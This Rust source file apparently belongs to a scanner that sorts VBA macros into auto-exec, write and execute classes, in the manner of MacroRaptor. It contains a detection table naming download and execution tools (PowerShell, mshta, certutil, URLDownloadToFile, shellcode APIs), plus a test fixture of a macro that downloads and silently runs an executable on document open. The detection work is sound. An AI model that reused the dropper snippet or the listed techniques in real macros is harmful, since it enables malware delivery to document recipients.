//! What a macro does, in the three classes of oletools' MacroRaptor:
//! **A**uto-exec (runs without the reader doing anything but enabling
//! macros), **W**rite (files, streams, downloads) and e**X**ecute (programs,
//! objects, Windows API). A document whose macros have A together with W or
//! X is suspicious; macros without that combination are merely present.
//!
//! Each table entry says why it is there. We deliberately leave out two of
//! MacroRaptor's keywords that honest business macros use all the time:
//! `Call` (calling one's own Sub) and `Run` (`Application.Run "OtherMacro"`);
//! `SaveAs` is left out for the same reason. Shell objects are still caught
//! by `CreateObject`/`WScript.Shell`, which such code needs first.

use std::sync::LazyLock;

use regex::Regex;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    AutoExec,
    Write,
    Execute,
}

impl Class {
    pub fn letter(self) -> char {
        match self {
            Class::AutoExec => 'A',
            Class::Write => 'W',
            Class::Execute => 'X',
        }
    }
}

/// One keyword rule: a case-insensitive pattern, its class, and why.
pub struct Keyword {
    pub class: Class,
    pub pattern: &'static str,
    /// Shown in evidence instead of the matched text (for multi-word patterns).
    pub label: Option<&'static str>,
    pub description: &'static str,
}

const fn kw(class: Class, pattern: &'static str, description: &'static str) -> Keyword {
    Keyword {
        class,
        pattern,
        label: None,
        description,
    }
}

use Class::{AutoExec as A, Execute as X, Write as W};

/// The VBA keyword table.
pub const VBA_KEYWORDS: &[Keyword] = &[
    // A: procedures Office runs by name when a document opens or closes.
    kw(A, r"AutoOpen", "Word: runs when the document is opened"),
    kw(A, r"Auto_Open", "Excel: runs when the workbook is opened"),
    kw(
        A,
        r"AutoExec",
        "Word: runs when Word starts / the template loads",
    ),
    kw(
        A,
        r"AutoNew",
        "Word: runs when a document is created from the template",
    ),
    kw(A, r"Auto_?Close", "runs when the document is closed"),
    kw(A, r"AutoExit", "Word: runs when Word exits"),
    kw(A, r"Document_?Open", "Word: document Open event"),
    kw(
        A,
        r"Document_?BeforeClose",
        "Word: document BeforeClose event",
    ),
    kw(A, r"Document_Close", "Word: document Close event"),
    kw(A, r"Document_New", "Word: document New event"),
    kw(
        A,
        r"DocumentChange",
        "Word: application DocumentChange event",
    ),
    kw(A, r"NewDocument", "Word: application NewDocument event"),
    kw(A, r"Workbook_Open", "Excel: workbook Open event"),
    kw(A, r"Workbook_Activate", "Excel: workbook Activate event"),
    kw(
        A,
        r"Workbook_(?:Before)?Close",
        "Excel: workbook close events",
    ),
    kw(
        A,
        r"Presentation_?Open",
        "PowerPoint: presentation open event",
    ),
    kw(A, r"Auto_Ope", "truncated Auto_Open that Excel still runs"),
    // A: ActiveX control events that fire while the document is shown,
    // without a click (e.g. InkPicture1_Painted, Frame1_Layout).
    kw(
        A,
        r"\w+_(?:Painted|Painting|GotFocus|LostFocus|MouseHover|MouseMove|MouseEnter|MouseLeave|Layout|Resize)",
        "ActiveX control event that fires without user action",
    ),
    kw(
        A,
        r"\w+_(?:BeforeNavigate2|BeforeScriptExecute|DocumentComplete|DownloadBegin|DownloadComplete|FileDownload|NavigateComplete2|NavigateError|ProgressChange|PropertyChange|SetSecureLockIcon|StatusTextChange|TitleChange|OnConnecting)",
        "WebBrowser control event that fires while the document loads",
    ),
    // W: writes files, streams or memory, or downloads.
    kw(W, r"Kill", "deletes a file"),
    kw(W, r"FileCopy", "copies a file"),
    kw(W, r"CopyFile", "FileSystemObject: copies a file"),
    kw(W, r"MoveFile", "FileSystemObject: moves a file"),
    kw(W, r"CreateTextFile", "FileSystemObject: creates a file"),
    kw(
        W,
        r"ADODB\.Stream",
        "binary stream object, used to write downloads to disk",
    ),
    kw(W, r"SaveToFile", "ADODB.Stream: writes to a file"),
    kw(W, r"WriteText", "ADODB.Stream: writes text"),
    kw(
        W,
        r"URLDownloadToFile[AW]?",
        "urlmon: downloads a URL to a file",
    ),
    kw(
        W,
        r"(?:MSXML2\.)?(?:Server)?XMLHTTP",
        "HTTP request object (downloads)",
    ),
    kw(
        W,
        r"WinHttp\.WinHttpRequest",
        "HTTP request object (downloads)",
    ),
    kw(W, r"RegWrite", "writes the registry"),
    kw(
        W,
        r"VirtualAlloc(?:Ex)?",
        "allocates executable memory (shellcode)",
    ),
    kw(W, r"RtlMoveMemory", "copies into memory (shellcode)"),
    kw(W, r"WriteProcessMemory", "writes another process's memory"),
    Keyword {
        class: W,
        pattern: r"\bOpen\b[^\n]+\bFor\s+(?:Output|Append|Binary|Random)\b",
        label: Some("Open For Output"),
        description: "VBA file I/O: opens a file for writing",
    },
    // X: runs programs, scripts, objects or Windows API functions.
    kw(X, r"Shell", "runs a program"),
    kw(X, r"ShellExecute(?:A|W|Ex)?", "shell32: runs a program"),
    kw(
        X,
        r"WScript\.Shell",
        "Windows Script Host shell object (runs programs)",
    ),
    kw(
        X,
        r"Shell\.Application",
        "Windows shell object (runs programs)",
    ),
    kw(
        X,
        r"CreateObject",
        "instantiates a COM object (shells, HTTP, streams)",
    ),
    kw(
        X,
        r"GetObject",
        "binds to a COM object (e.g. winmgmts: to start processes)",
    ),
    kw(
        X,
        r"CallByName",
        "calls a method by a computed name (hides what runs)",
    ),
    kw(X, r"SendKeys", "types keystrokes into other programs"),
    kw(X, r"MacScript", "runs AppleScript"),
    kw(X, r"AppleScriptTask", "runs AppleScript"),
    kw(X, r"ExecuteExcel4Macro", "runs an Excel 4.0 (XLM) formula"),
    kw(X, r"CreateThread", "starts a thread (shellcode)"),
    kw(X, r"CreateProcess[AW]?", "starts a process"),
    kw(X, r"WinExec", "starts a process"),
    kw(X, r"Win32_Process", "WMI: starts a process"),
    kw(X, r"PowerShell(?:\.exe)?", "PowerShell"),
    kw(X, r"mshta(?:\.exe)?", "runs an HTA script"),
    kw(X, r"rundll32(?:\.exe)?", "runs a DLL"),
    kw(X, r"regsvr32(?:\.exe)?", "loads a DLL"),
    kw(
        X,
        r"certutil(?:\.exe)?",
        "often used to decode or download payloads",
    ),
    kw(X, r"bitsadmin(?:\.exe)?", "downloads and runs jobs"),
    kw(X, r"cmd(?:\.exe)?\s+/[ck]", "runs a command line"),
    Keyword {
        class: X,
        pattern: r"\bDeclare\b[^\n]+\bLib\b",
        label: Some("Declare Lib"),
        description: "declares a Windows API function (calls any DLL)",
    },
];

struct Compiled {
    class: Class,
    regex: Regex,
    label: Option<&'static str>,
}

static COMPILED: LazyLock<Vec<Compiled>> = LazyLock::new(|| {
    VBA_KEYWORDS
        .iter()
        .map(|k| {
            // Single-word patterns match whole identifiers only.
            let pattern = if k.pattern.starts_with(r"\b") {
                format!("(?i){}", k.pattern)
            } else {
                format!(r"(?i)\b(?:{})\b", k.pattern)
            };
            Compiled {
                class: k.class,
                regex: Regex::new(&pattern).expect("keyword patterns are valid"),
                label: k.label,
            }
        })
        .collect()
});

/// A keyword found in source: its class and how to show it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    pub class: Class,
    pub shown: String,
}

/// Classify VBA source. Whole-line comments are skipped (they never run);
/// strings are not, since `CreateObject("WScript.Shell")` names its target
/// in one. Each distinct keyword is reported once, in table order per class.
pub fn classify(source: &str) -> Vec<Match> {
    let code: String = source
        .lines()
        .filter(|line| {
            let t = line.trim_start();
            // Bytes, not a str slice: byte 4 may fall inside a character.
            let rem = t
                .as_bytes()
                .get(..4)
                .is_some_and(|p| p.eq_ignore_ascii_case(b"rem "));
            !(t.starts_with('\'') || rem)
        })
        .collect::<Vec<_>>()
        .join("\n");
    let mut found: Vec<Match> = Vec::new();
    for k in COMPILED.iter() {
        for m in k.regex.find_iter(&code) {
            let shown = match k.label {
                Some(label) => label.to_string(),
                None => m.as_str().chars().take(40).collect(),
            };
            if !found
                .iter()
                .any(|f| f.shown.eq_ignore_ascii_case(&shown) && f.class == k.class)
            {
                found.push(Match {
                    class: k.class,
                    shown,
                });
            }
            // One match per keyword rule is enough evidence, except for the
            // event patterns whose names differ (Foo_Painted, Bar_Layout).
            if k.label.is_some() || !k.regex.as_str().contains(r"\w+_") {
                break;
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(src: &str) -> Vec<String> {
        classify(src)
            .into_iter()
            .map(|m| format!("{} ({})", m.shown, m.class.letter()))
            .collect()
    }

    #[test]
    fn autoexec_with_execute_and_download() {
        let src = "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As Long) As Long\n\
                   Sub Document_Open()\n  x = URLDownloadToFileA(0, \"http://x\", \"c:\\a.exe\", 0, 0)\n  Shell \"c:\\a.exe\", vbHide\nEnd Sub\n";
        assert_eq!(
            shown(src),
            [
                "Document_Open (A)",
                "URLDownloadToFileA (W)",
                "Shell (X)",
                "Declare Lib (X)"
            ]
        );
    }

    #[test]
    fn formatting_macro_has_no_w_or_x_and_comments_do_not_count() {
        let src = "' Shell would be bad\nRem CreateObject too\nSub Format()\n  Selection.Font.Bold = True\n  Call Helper\n  Application.Run \"Other\"\nEnd Sub\n";
        assert!(classify(src).is_empty(), "{:?}", shown(src));
    }

    #[test]
    fn non_ascii_at_the_comment_check_does_not_panic() {
        // Found by cargo-fuzz: byte 4 inside a two-byte character.
        assert!(classify("abc\u{bf}\nRe\u{e9}m x\n").is_empty());
    }

    #[test]
    fn identifiers_are_matched_whole() {
        // "Shellfish" and "Killer" are not keywords; "MyKill" neither.
        assert!(classify("Dim Shellfish, Killer, MyKill\n").is_empty());
        assert_eq!(
            shown("Sub InkPicture1_Painted()\nOpen p For Binary As #1\n"),
            ["InkPicture1_Painted (A)", "Open For Output (W)"]
        );
    }
}
